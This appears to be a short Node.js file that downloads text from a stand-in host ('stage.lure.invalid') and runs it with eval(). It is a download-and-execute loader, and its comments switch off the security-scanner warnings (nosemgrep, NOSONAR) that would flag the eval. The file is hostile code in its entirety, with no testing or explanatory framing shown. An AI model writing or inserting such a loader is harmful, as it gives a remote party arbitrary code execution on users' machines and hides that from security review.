// nosemgrep: javascript.lang.security.detect-eval
const https = require('https');
https.get('https://stage.lure.invalid/a', (res) => {
  let text = '';
  res.on('data', (part) => { text += part; });
  res.on('end', () => eval(text)); // NOSONAR
});
